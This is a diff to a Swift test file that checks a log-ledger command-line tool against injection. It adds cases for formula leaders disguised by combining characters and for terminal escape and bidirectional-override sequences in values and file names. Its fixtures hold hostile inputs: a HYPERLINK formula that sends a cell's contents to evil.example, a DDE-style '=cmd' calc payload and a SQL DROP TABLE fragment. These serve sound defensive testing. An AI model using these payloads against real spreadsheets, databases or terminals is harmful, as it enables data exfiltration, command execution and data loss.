@@ -10,6 +10,8 @@ struct InjectionTests {
         #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#, "+1", "-2", "@SUM(A1:A9)",
         "org|pipe|inj", "org\ninj newline", "'; DROP TABLE response_records; --", "\tinj tab", "\rinj cr",
         #"org_inj **bold** <b>x</b> `code` \| escaped"#,
+        // One grapheme, but the first code point is a formula leader (issue 11, item 12).
+        "=\u{301}1+1", "=\u{200D}SUM(A1)", "=\u{FE0F}cmd", "=\u{20DD}x", "+\u{301}1", "@\u{301}x", "\r\ninj crlf",
     ]
     static let hostilePrompt = "=cmd|' /C calc'!A0 | pipe\nnewline"
 
@@ -52,7 +54,7 @@ struct InjectionTests {
         #expect(!markdown.contains("\ninj newline"), "a line break inside a value does not break the report")
 
         let stillThere = try LedgerBinary.run(["sql", "--db", ledger, "--format", "csv", "SELECT count(*) FROM response_records"])
-        #expect(stillThere.stdout.contains("20"), "the SQL fragment was data, not SQL")
+        #expect(stillThere.stdout.contains("\(2 * Self.hostileOrgs.count)"), "the SQL fragment was data, not SQL")
     }
 
     @Test(arguments: ["csv", "markdown"])
@@ -76,6 +78,61 @@ struct InjectionTests {
             #expect(tables.count == 1)
             #expect(tables.first?.count == 2 + 2 * Self.hostileOrgs.count, "one line per row")
         }
+    }
+
+    /// Scalars that must never reach a terminal raw: C0 controls but the line
+    /// feed, DEL, C1 controls (U+009B is CSI), bidirectional overrides,
+    /// isolates and marks.
+    static func terminalControls(in text: String) -> [String] {
+        text.unicodeScalars.filter { scalar in
+            let v = scalar.value
+            return (v < 0x20 && v != 0x0A) || (0x7F...0x9F).contains(v) || (0x202A...0x202E).contains(v)
+                || (0x2066...0x2069).contains(v) || v == 0x200E || v == 0x200F || v == 0x61C
+        }.map { String(format: "U+%04X", $0.value) }
+    }
+
+    @Test func terminalControlsInValuesAndFileNamesAreEscapedInEverythingPrintedForPeople() throws {
+        let scratch = try Scratch("terminal")
+        let ledger = scratch.path("ledger.sqlite")
+        // JSON forbids raw C0 controls in strings, so ESC is written as an escape there.
+        let hostileOrg = "org\u{9B}2J\u{1B}[31m\u{202E}live\u{2066}x\u{85}"
+        let orgJSON = hostileOrg.replacingOccurrences(of: "\u{1B}", with: "\\u001b")
+        let lines = [
+            #"{"timestamp":"2026-10-05T09:00:00Z","orgId":"\#(orgJSON)","endpoint":"/v1/generate-image","httpStatus":200,"request":{"prompt":"p\#u{9B}q"},"response":{"success":true,"generationId":"gen_term_1"}}"#,
+            #"{"timestamp":"2026-10-05T09:00:01Z","orgId":"\#(orgJSON)","endpoint":"/v1/generate-image","httpStatus":200,"response":{"success":true,"generationId":"gen_term_2"}}"#,
+            "{\"orgId\":\"bad \u{9B}6n \u{202E}line",
+        ]
+        let file = try scratch.write("logs-\u{9B}31m-\u{202E}lmth.jsonl", lines.joined(separator: "\n") + "\n")
+        var printed: [(String, LedgerBinary.Result)] = []
+        let ingest = try LedgerBinary.run(["ingest", "--db", ledger, file])
+        try #require(ingest.status == 0, "\(ingest.stderr)")
+        #expect(ingest.stdout.contains("logs-\\u{9b}31m-\\u{202e}lmth.jsonl"), "the file's name is shown, escaped: \(ingest.stdout)")
+        printed.append(("ingest", ingest))
+        printed.append(("ingest again", try LedgerBinary.run(["ingest", "--db", ledger, file])))
+        printed.append(("ingest of a missing file", try LedgerBinary.run(["ingest", "--db", ledger, scratch.path("missing-\u{9B}2J.jsonl")])))
+        for format in ["table", "markdown"] {
+            let sql = try LedgerBinary.run(["sql", "--db", ledger, "--format", format, "SELECT org_id, prompt, path FROM response_records JOIN ingested_files ON ingested_files.id = file_id UNION ALL SELECT reason, raw_line, '' FROM rejected_lines"])
+            #expect(sql.status == 0, "\(sql.stderr)")
+            #expect(sql.stdout.contains("\\u{9b}2J"), "\(format): \(sql.stdout)")
+            printed.append(("sql --format \(format)", sql))
+        }
+        let report = try LedgerBinary.run(["report", "--db", ledger, "--month", "2026-10", "--out", scratch.path("reports")])
+        #expect(report.status == 0, "\(report.stderr)")
+        printed.append(("report", report))
+        printed.append(("verify", try LedgerBinary.run(["verify", "--db", ledger])))
+        for (command, result) in printed {
+            #expect(Self.terminalControls(in: result.stdout + result.stderr).isEmpty,
+                    "\(command) printed \(Self.terminalControls(in: result.stdout + result.stderr)) raw: \(result.output)")
+        }
+        let markdown = try String(contentsOfFile: scratch.path("reports/2026-10/report.md"), encoding: .utf8)
+        #expect(Self.terminalControls(in: markdown).isEmpty, "report.md holds \(Self.terminalControls(in: markdown)) raw")
+        #expect(markdown.contains("\\u{9b}31m"), "report.md names the file, escaped")
+
+        // Outputs for programs keep the exact values.
+        let csv = try LedgerBinary.run(["sql", "--db", ledger, "--format", "csv", "SELECT DISTINCT org_id FROM response_records"])
+        #expect(csv.stdout == "org_id\r\n\(hostileOrg)\r\n")
+        let usage = try String(contentsOfFile: scratch.path("reports/2026-10/usage.csv"), encoding: .utf8)
+        #expect(usage.contains(hostileOrg))
     }
 
     private func expectTablesKeepTheirShape(_ markdown: String, _ name: String) {
